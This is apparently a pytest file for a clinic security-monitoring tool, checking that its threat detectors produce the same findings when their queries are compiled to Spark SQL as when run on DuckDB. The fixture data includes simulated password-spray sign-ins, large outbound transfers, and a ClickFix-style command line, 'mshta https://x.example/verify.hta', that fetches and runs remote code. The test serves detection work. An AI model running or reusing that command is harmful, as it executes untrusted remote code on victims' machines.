"""Detectors stay backend-neutral: every query they run also compiles to Spark SQL.

Spark itself is not installed here, so this runs the detectors through a connection that
presents itself as PySpark (so the detectors take their Spark paths), compiles each query
with Ibis's Spark SQL compiler, and then executes it on DuckDB (with ``unix_micros``, the
one Spark function the detectors call by name, defined as a DuckDB macro).
"""

from datetime import timedelta
from typing import Any

import ibis
import pytest
from ibis.config import Config

from clinicshield.monitoring.core.detectors import DetectionContext, run_detectors
from clinicshield.monitoring.core.sigma_rules import load_rules

from .conftest import at, daily, signin


class SparkOptions(Config):
    """The option the Spark compiler reads; registered by the PySpark backend when installed."""

    treat_nan_as_null: bool = False


class SparkCompilingConnection:
    name = "pyspark"

    def __init__(self) -> None:
        if ibis.options.pyspark is None:
            ibis.options.pyspark = SparkOptions()
        self.duck = ibis.duckdb.connect()
        self.duck.raw_sql("CREATE MACRO unix_micros(ts) AS epoch_us(ts)")
        self.spark_sql: list[str] = []

    def read_parquet(self, folder: str) -> Any:
        return self.duck.read_parquet(
            f"{folder}/day=*/*.parquet", hive_partitioning=True, hive_types_autocast=False
        )

    def create_table(self, name: str, obj: Any, temp: bool = False) -> Any:
        self.spark_sql.append(ibis.to_sql(obj, dialect="pyspark"))
        return self.duck.create_table(name, obj, temp=temp)

    def to_pyarrow(self, expr: Any) -> Any:
        self.spark_sql.append(ibis.to_sql(expr, dialect="pyspark"))
        return self.duck.to_pyarrow(expr)


@pytest.fixture
def mixed_store(store):
    start = at("2025-01-01 00:00")
    auth = [
        signin(ts, "ana", src_country="ES", src_lat=40.4, src_lon=-3.7)
        for ts in daily(start, 31, 9)
    ]
    auth += [signin(at("2025-02-01 02:00"), "ana", src_country="ES", src_lat=40.4, src_lon=-3.7)]
    auth += [signin(at("2025-02-01 03:00"), "ana", src_country="NG", src_lat=6.5, src_lon=3.4)]
    auth += [
        signin(
            at("2025-02-01 05:00") + timedelta(minutes=n),
            f"u{n}",
            outcome="failure",
            src_ip="45.9.1.1",
        )
        for n in range(10)
    ]
    store("auth", auth)
    store(
        "process",
        [
            {
                "ts": at("2025-02-01 09:00"),
                "host": "pc1",
                "user": "ana",
                "event_code": "sysmon:1",
                "image": "C:\\Windows\\System32\\mshta.exe",
                "parent_image": "C:\\Windows\\explorer.exe",
                "command_line": "mshta https://x.example/verify.hta",
                "record_ref": "p1",
            }
        ],
    )
    store(
        "flow",
        [
            {
                "ts": at("2025-02-01 01:00") - timedelta(days=n),
                "src_ip": "10.0.0.9",
                "dst_ip": "45.9.2.2",
                "bytes_out": 400 * 1024**2,
                "record_ref": f"f{n}",
            }
            for n in range(10)
        ],
    )
    return store


def test_every_detector_query_compiles_to_spark_sql_and_finds_the_same(mixed_store, con):
    ctx = DetectionContext(
        start=at("2025-02-01 00:00"),
        end=at("2025-02-02 00:00"),
        sigma_rules=tuple(load_rules([]).rules),
    )
    spark = SparkCompilingConnection()
    through_spark_compiler = run_detectors(spark, mixed_store.data_dir, "clinic-a", ctx)
    on_duckdb = run_detectors(con, mixed_store.data_dir, "clinic-a", ctx)
    assert sorted(f.key for f in through_spark_compiler) == sorted(f.key for f in on_duckdb)
    assert {f.kind for f in on_duckdb} >= {
        "off_hours",
        "new_country",
        "impossible_travel",
        "password_spray",
        "clickfix",
        "exfiltration",
    }
    assert len(spark.spark_sql) >= 10
    assert any("UNIX_MICROS" in sql.upper() for sql in spark.spark_sql)
